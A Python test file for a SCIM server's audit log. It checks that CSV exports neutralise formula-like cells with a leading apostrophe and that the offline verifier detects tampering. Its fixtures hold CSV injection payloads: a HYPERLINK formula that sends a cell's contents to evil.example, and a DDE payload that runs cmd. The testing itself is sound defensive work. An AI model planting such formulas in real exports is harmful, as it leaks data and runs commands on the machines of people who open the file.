"""A CSV export opens in a spreadsheet as text, and still verifies offline.

An auditor opens the log's CSV export in a spreadsheet; a userName, externalId or
detail an IdP or an import sent that starts with =, +, -, @, a tab or a carriage
return must arrive there as text, never as a live formula (OWASP: CSV injection).
Such a cell, and one that starts with ' itself, is written with one leading '; the
manifest says so (``csv_version`` 2, signed with it), and the verifier takes exactly
that ' off before hashing. An export made before (no ``csv_version``) is read with
its cells as they are, and verifies as it did.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from scim_server.audit import offline
from tests.audit.test_offline import _both, _keys
from tests.support import Scim
from tests.support.console import sign_in_console

# export_csv_v1.csv: `scim-server audit export --format csv` at 771f05d (before cells were
# escaped) of a fresh organization with formula-like values; .keys.json: `audit public-key
# --json` of the key that signed it.
FIXTURES = Path(__file__).parent / "fixtures"

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
DDE = "+1+cmd|' /C calc'!A0"
# Each value a spreadsheet would run, one that starts with ' (the escape's own character),
# and values that need nothing: what each reads back as must be what its hash covers.
VALUES = {
    "user_name": HYPERLINK,
    "external_id": DDE,
    "detail": "-2+3",
}
OTHER_DETAILS = ["@SUM(1+1)", "\tTAB", "\rCR", "'already quoted", "''twice", "plain", "", "a'b"]


def _rows(body: str) -> list[dict[str, str]]:
    """The export's records as a spreadsheet's CSV reader sees them (without the manifest)."""
    return list(csv.DictReader(io.StringIO(body.split("\n# manifest ")[0])))


def _record_hostile(session, org_id: str) -> None:
    from scim_server.audit import record

    with session.begin():
        record(
            session,
            org_id,
            "test.formula",
            resource_type="User",
            changes={"title": ["", "=1+1"]},
            status=200,
            **VALUES,
        )
        for detail in OTHER_DETAILS:
            record(session, org_id, "test.formula", detail=detail, user_name=detail or None)


def _export(admin: Scim, tmp_path: Path, **params: str) -> Path:
    resp = admin.get("/api/v1/audit/export", query_string={"format": "csv", **params})
    assert resp.status_code == 200
    path = tmp_path / "export.csv"
    path.write_bytes(resp.get_data())
    return path


def test_the_console_export_writes_a_formula_from_the_idp_as_text(
    app: Flask, client: FlaskClient, scim: Scim
) -> None:
    """Export CSV in the console: the userName and externalId an IdP sent as formulas
    open as text, each with one ' before it and otherwise as sent."""
    scim.create_user(HYPERLINK, externalId=DDE)
    sign_in_console(app, client, scim, "auditor")
    resp = client.get("/admin/log/export?format=csv&action=user.create")
    assert resp.status_code == 200
    (event,) = [r for r in _rows(resp.get_data(as_text=True)) if "HYPERLINK" in r["user_name"]]
    assert event["user_name"] == "'" + HYPERLINK
    assert event["external_id"] == "'" + DDE


def test_every_cell_a_spreadsheet_would_run_is_written_as_text(scim, admin, session, tmp_path):
    """=, +, -, @, tab, CR and ' at the start of a cell get one '; other cells are as
    stored; the manifest says which way the cells are written."""
    _record_hostile(session, scim.org_id)
    export = _export(admin, tmp_path, action="test.formula")
    body = export.read_bytes().decode()  # as written: a CR in a cell stays a CR
    rows = _rows(body)
    assert len(rows) == 1 + len(OTHER_DETAILS)
    first, others = rows[0], rows[1:]
    assert {k: first[k] for k in VALUES} == {k: "'" + v for k, v in VALUES.items()}
    assert json.loads(first["changes"]) == {"title": ["", "=1+1"]}  # JSON: starts with {
    expected = ["'@SUM(1+1)", "'\tTAB", "'\rCR", "''already quoted", "'''twice", "plain", "", "a'b"]
    assert [r["detail"] for r in others] == expected
    for row in rows:  # not one cell a spreadsheet would take for a formula
        assert all(cell[:1] not in offline.FORMULA_START for cell in row.values()), row
    manifest = json.loads(body.splitlines()[-1].removeprefix("# manifest "))
    assert manifest["csv_version"] == offline.CSV_VERSION >= 2  # 3: the manifest lists the header


def test_an_export_with_formula_cells_verifies_offline(scim, admin, client, session, tmp_path):
    """The verifier takes the ' off again: every hash, the chain and the signature hold,
    with the CLI and the standalone script alike; NDJSON carries the values as stored."""
    _record_hostile(session, scim.org_id)
    status, text = _both(_export(admin, tmp_path), _keys(client, tmp_path))
    assert status == 0, text
    assert text.startswith("OK: ") and "manifest signed by key" in text
    status, text = _both(_export(admin, tmp_path, action="test.formula"), _keys(client, tmp_path))
    assert status == 0, text
    ndjson = admin.get("/api/v1/audit/export", query_string={"action": "test.formula"})
    events = [json.loads(line) for line in ndjson.get_data(as_text=True).splitlines()[:-1]]
    assert {k: events[0][k] for k in VALUES} == VALUES
    assert [e["detail"] for e in events[1:]] == OTHER_DETAILS


def test_an_export_made_before_cells_were_escaped_still_verifies(tmp_path):
    """A CSV export made by the previous release (no ``csv_version``: its formulas and its
    ' cell as stored) verifies as it did: nothing is taken off its cells."""
    export, keys = FIXTURES / "export_csv_v1.csv", FIXTURES / "export_csv_v1.keys.json"
    body = export.read_bytes().decode()
    assert "csv_version" not in body and ",'already quoted," in body and ",@SUM(1+1)," in body
    status, text = _both(export, keys)
    assert status == 0, text
    assert text.startswith("OK: 4 events, seq 1..4")


def test_an_old_export_edited_is_still_found(tmp_path):
    """The old format keeps its tamper evidence: an edited cell fails at its line."""
    lines = (FIXTURES / "export_csv_v1.csv").read_bytes().split(b"\n")
    assert b",'already quoted," in lines[3]
    lines[3] = lines[3].replace(b",'already quoted,", b",already quoted,")
    export = tmp_path / "edited.csv"
    export.write_bytes(b"\n".join(lines))
    status, text = _both(export, FIXTURES / "export_csv_v1.keys.json")
    assert status == 1
    assert text.startswith("FAILED line 4: ") and "does not match its hash (edited)" in text


def _unescaped(line: str) -> str:
    """An event line with the ' taken off each cell (what the previous format wrote)."""
    return line.replace(",'", ",").replace(",\"'", ',"')


def _tampered(export: Path, tamper: str) -> int:
    """Tamper with the export in place; the line (1-based) the verifier must name.

    Lines end at a line feed only, as the verifier counts them (a detail may hold a CR)."""
    lines = [ln + "\n" for ln in export.read_bytes().decode().split("\n")[:-1]]
    at = next(i for i, ln in enumerate(lines) if "HYPERLINK" in ln)
    if tamper == "edit_formula":  # the link goes elsewhere, the ' kept
        lines[at] = lines[at].replace("evil.example", "other.example")
    elif tamper == "rearm_formula":  # the ' taken off: a live formula again
        lines[at] = lines[at].replace("\"'=HYPERLINK", '"=HYPERLINK')
    elif tamper == "extra_quote":  # a ' before a cell that needs none
        lines[at] = lines[at].replace(",test.formula,", ",'test.formula,")
    elif tamper in ("downgrade", "unknown_version"):
        manifest = json.loads(lines[-1].removeprefix("# manifest "))
        if tamper == "downgrade":  # said to be an old export, every ' taken off: re-armed
            del manifest["csv_version"]
            lines = [lines[0], *(_unescaped(ln) for ln in lines[1:-1])]
        else:
            manifest["csv_version"] = offline.CSV_VERSION + 1
        lines.append("# manifest " + json.dumps(manifest) + "\n")
        at = len(lines) - 1
    export.write_bytes("".join(lines).encode())
    return at + 1


@pytest.mark.parametrize(
    ("tamper", "reason"),
    [
        ("edit_formula", "does not match its hash (edited)"),
        ("rearm_formula", "a formula without its leading '"),
        ("extra_quote", "a ' too many"),
        ("downgrade", "the manifest is not authentic"),
        (
            "unknown_version",
            f"csv_version {offline.CSV_VERSION + 1} is not one this verifier reads",
        ),
    ],
)
def test_tampering_with_an_escaped_export_is_found(
    scim, admin, client, session, tmp_path, tamper, reason
):
    """An edited formula cell, a ' taken off (or added) so that the file says the same
    values another way, a manifest made to say the cells are not escaped: FAILED."""
    _record_hostile(session, scim.org_id)
    export = _export(admin, tmp_path, action="test.formula")
    line = _tampered(export, tamper)
    status, text = _both(export, _keys(client, tmp_path))
    assert status == 1
    assert text.startswith(f"FAILED line {line}: "), text
    assert reason in text, text
